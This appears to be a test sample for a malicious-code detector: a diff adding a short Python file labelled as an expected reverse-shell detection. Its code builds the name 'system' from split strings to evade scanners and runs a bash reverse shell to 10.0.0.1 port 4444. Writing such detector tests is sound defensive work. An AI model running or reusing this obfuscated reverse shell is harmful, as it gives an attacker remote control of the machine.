@@ -0,0 +1,7 @@
+# 通过属性访问builtins.getattr获取动态拼接的属性
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import builtins as b
+import os
+
+f = b.getattr(os, "".join(["sys", "tem"]))
+f("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")